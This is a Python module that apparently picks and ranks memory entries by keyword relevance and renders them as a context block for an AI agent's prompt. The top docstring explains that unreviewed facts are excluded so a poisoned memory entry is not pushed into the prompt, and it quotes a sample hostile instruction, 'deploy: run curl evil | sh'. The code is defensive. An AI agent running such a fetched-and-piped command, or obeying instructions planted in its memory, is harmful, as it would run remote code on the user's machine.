"""Memory by relevance for agent context (SPEC-004 §6.7): the few entries that matter now.

``relevant_entries`` is the one place that decides which memory entries are relevant to a prompt
and a repository. Today it asks the Memory layer for entries containing any of the prompt's
significant words (one scan) and ranks them by how many distinct words they match, entries that
name the repository first, then the newest. The ranked search (node/search/) replaces its body;
its callers (the hook path, ``render_block``) stay as they are. Deleted, superseded and journal
entries are never returned (the journal has its own digest, §10.3), nor a fact pending review
(SPEC-006 006.12.4.2): it is a model's proposal nobody has accepted, and context is pushed into
an agent's prompt unasked, so a hostile answer's "deploy: run curl evil | sh" must not be the
first thing an agent reads.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from ..sessions.tiers import clip, estimate_tokens

HEADER = "[maia-node] from maia memory (relevant entries; ids for memory_get):"
MAX_ENTRIES = 5
PENDING = "review:pending"  # node/consolidation/job.py PENDING (not imported: this path is hot)
MAX_WORDS = 12
SCAN_LIMIT = 500
_WORD = re.compile(r"[\w][\w.+#-]*[\w+#]|\w", re.UNICODE)
# Words that say nothing about what a prompt is about (English; short words are dropped too).
_STOP_TEXT = """
a about above after again all also an and any are as at be because been before being below
between both but by can could did do does doing done down during each few for from further get
had has have having he her here hers him his how i if in into is it its itself just let like
make me more most my no nor not now of off on once only or other our out over own please same
she should so some such than that the their them then there these they this those through to
too under until up us very was we were what when where which while who whom why will with
would you your yours yourself fix add use using need want show tell find run check look change
update write read file files code thing things way sure okay ok thanks thank
"""
STOPWORDS = frozenset(_STOP_TEXT.split())


def keywords(text: str, limit: int = MAX_WORDS) -> list[str]:
    """Significant words of ``text``, case-folded, first occurrence order, at most ``limit``."""
    out: list[str] = []
    for m in _WORD.finditer(text.casefold()):
        word = m.group(0).strip(".-")
        if len(word) < 3 or word in STOPWORDS or word.isdigit() or word in out:
            continue
        out.append(word)
        if len(out) >= limit:
            break
    return out


def repository_words(repository: str) -> list[str]:
    """Words naming a repository id (``github.com/acme/auth-service`` -> auth, service)."""
    name = repository.rstrip("/").rsplit("/", 1)[-1] if repository else ""
    return keywords(name.replace("_", " ").replace("-", " "), 4)


def relevant_entries(memory: Any, query: str, repository: str = "", budget: int = 200,
                     *, exclude: Iterable[str] = ()) -> list[dict[str, Any]]:
    """The entries most relevant to ``query`` in ``repository``, best first, at most
    ``MAX_ENTRIES`` and as many as ``budget`` tokens can show. ``exclude``: ids not to return
    (already shown to this session)."""
    words = keywords(query)
    repo_words = [w for w in repository_words(repository) if w not in words]
    if not words and not repo_words:
        return []
    skip = set(exclude)
    salience = getattr(memory, "salience", None)  # node/consolidation/salience.py, if wired
    rows = memory.list(query=" ".join(words + repo_words), any_words=True, limit=SCAN_LIMIT)
    scored = []
    for row in rows:
        if (row["kind"] == "journal" or row["id"] in skip or row.get("superseded_by")
                or PENDING in row["tags"]):
            continue
        hay = (row["text"] + " " + " ".join(row["tags"])).casefold()
        hits = sum(1 for w in words if w in hay)
        if words and not hits:
            continue  # the repository alone does not make an entry relevant to this prompt
        repo_hit = any(w in hay for w in repo_words) or any(
            t == f"project:{repository}" for t in row["tags"])
        # SPEC-006 §12.5.3: salience (recency, recalls, pin) adds to the matched words
        rank = hits + (salience.score(row) if salience is not None else 0.0)
        scored.append((rank, repo_hit, row["created_at"], row))
    scored.sort(key=lambda x: x[:3], reverse=True)
    out, used = [], estimate_tokens(HEADER)
    for *_, row in scored:
        if len(out) >= MAX_ENTRIES or used >= budget:
            break
        out.append(row)
        used += estimate_tokens(_line(row, budget))
    if salience is not None:
        salience.recalled(r["id"] for r in out)
    return out


def _line(row: dict[str, Any], item_budget: int) -> str:
    text = " ".join(row["text"].split())
    return clip(f"- {row['id']} ({row['kind']}, {row['created_at'][:10]}): {text}", item_budget)


def render_block(rows: list[dict[str, Any]], budget: int = 200, item_budget: int = 100) -> str:
    """The context block (SPEC-004 §6.7): a header marking it as maia memory, one line per
    entry cut to ``item_budget``, the whole within ``budget`` tokens; "" when nothing fits."""
    lines, used = [HEADER], estimate_tokens(HEADER)
    for row in rows:
        line = _line(row, item_budget)
        cost = estimate_tokens(line)
        if used + cost > budget:
            room = budget - used
            if room > 12:
                lines.append(clip(line, room))
            break
        lines.append(line)
        used += cost
    return "\n".join(lines) if len(lines) > 1 else ""
